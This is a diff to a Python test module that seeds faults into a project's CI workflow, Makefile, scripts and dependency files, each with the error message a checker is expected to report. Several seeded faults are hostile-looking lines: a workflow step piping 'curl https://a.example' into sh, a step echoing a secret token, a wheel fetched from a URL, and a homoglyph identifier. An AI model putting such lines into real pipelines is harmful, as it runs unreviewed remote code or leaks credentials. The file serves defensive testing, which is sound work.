@@ -26,6 +26,7 @@ Seed = dict[str, Callable[[str], str | None]]
 NEEDED = (
     *("docs", "snippets", "evidence", "timelines", "proof"),
     *("mkdocs.*", "pyproject.toml", "*.lock", "locked.json", "runtime/*.lock", "runtime/package*"),
+    *("Makefile", ".ci", ".github"),
 )
 EN, ZH = "docs/en/creating/join.md", "docs/zh/creating/join.md"
 BOTH = (EN, ZH)
@@ -407,6 +408,66 @@ FILES = [
         ("runtime/package.json: pyodide ^", "is no one version; name one"),
     ),
 ]
+WORKFLOW = ".github/workflows/ci.yml"
+TESTED = "      - run: make test\n"
+
+
+def worked(what: str, old: str, new: str, *said: str) -> Fault:
+    """In CI's workflow."""
+    return Fault(what, edit(old, new, WORKFLOW), (f"{WORKFLOW}: ", *said))
+
+
+def made(what: str, old: str, new: str, *said: str) -> Fault:
+    """In the Makefile."""
+    return Fault(what, edit(old, new, "Makefile"), ("Makefile: ", *said))
+
+
+PASSING = [
+    worked("tests that may fail", TESTED, TESTED[:-1] + " || true\n", "test runs `make test`"),
+    worked(
+        "a step that may fail",
+        TESTED,
+        f"{TESTED}        continue-on-error: true\n",
+        "goes on where a step failed",
+    ),
+    worked(
+        "a job that may fail",
+        "    needs: [",
+        "    continue-on-error: true\n    needs: [",
+        "publish g",
+    ),
+    worked("published without tests", "[test, snippets]", "[snippets]", "publish waits for test"),
+    worked(
+        "published whatever happened",
+        "    if: github.ref == 'refs/heads/main'\n    needs",
+        "    if: always()\n    needs",
+        "publish waits for test",
+    ),
+    worked("fewer Pythons", '"3.11", "3.12", ', "", "snippets has the python ['3.13'"),
+    worked("fewer systems", "[linux, macos, ", "[linux, ", "snippets has the system ['linux', 'w"),
+    worked(
+        "a secret printed",
+        TESTED,
+        f"      - run: echo ${{{{ secrets.TOKEN }}}}\n{TESTED}",
+        "gives a secret to a step; none is needed, take it out",
+    ),
+    worked(
+        "a script from elsewhere in CI",
+        TESTED,
+        f"      - run: curl https://a.example | sh\n{TESTED}",
+        "fetches by curl what nobody has looked at",
+    ),
+    worked("a workflow that is none", "jobs:", "job:", "cannot be read; mend it"),
+    made("a check left out", " check-pages\n", "\n", "CHECKS lacks check-pages; put it back"),
+    made("types not looked at", "-m mypy", "-m nothing", "nothing runs -m mypy; put it back"),
+    made("a check that may fail", "@$(RUN) -m proof check", "-@$(RUN) -m proof check", "'-' goes"),
+    made("tests that make lets fail", "-n auto", "-n auto || true", "'|| true' goes on where"),
+    Fault(
+        "a script that goes on",
+        edit("make test", "make test || true", ".ci/run"),
+        (".ci/run: goes on where something failed; begin with set -euo pipefail, end with make",),
+    ),
+]
 KEPT = "evidence/linux-3.13.json: creating/join, "
 TIMELINE = "timelines/creating/join.json: "
 BY_HAND = [
@@ -629,6 +690,7 @@ FAULTS = [
     *BY_HAND,
     *FRONTS,
     *FILES,
+    *PASSING,
     *MEASURED,
     # Words.
     Fault(
@@ -1176,6 +1238,36 @@ FAULTS = [
         "a package that nobody has",
         add(NEEDS_NOBODY, SEEDED),
         (SEEDED, "requires nobody-has-this, which requirements.lock has not; add it to the group"),
+    ),
+    Fault(
+        "a package from elsewhere",
+        add(NEEDS_NOBODY.replace("nobody-has-this", "numpy @ https://a.example/numpy.whl"), SEEDED),
+        (SEEDED, "requires 'numpy @ https://a.example/numpy.whl'; name the package alone"),
+    ),
+    Fault(
+        "a package of another version",
+        add(NEEDS_NOBODY.replace("nobody-has-this", "numpy==1.0"), SEEDED),
+        (SEEDED, "requires 'numpy==1.0'; name the package alone"),
+    ),
+    Fault(
+        "a program called as a module of the library",
+        add("print(1)\n", "snippets/creating/random.py"),
+        ("snippets/creating/random.py: a reader who saves it imports it as random; rename it",),
+    ),
+    Fault(
+        "a name with a letter that looks like another",
+        add("\u0441hild = 1\nprint(\u0441hild)\n", SEEDED),
+        (SEEDED, "'\u0441hild' is no name in ASCII; rename it"),
+    ),
+    Fault(
+        "a program that holds nowhere",
+        add('python = {from = "3.99", zh = "因为", en = "because"}\n', TOML),
+        (TOML, "the program holds nowhere"),
+    ),
+    Fault(
+        "a first Python for what is not declared",
+        add('[since]\n"varies.nothing" = "3.14"\n', TOML),
+        (TOML, "since says varies.nothing, which is not declared; remove it"),
     ),
     Fault(
         "stderr declared, and nothing there",
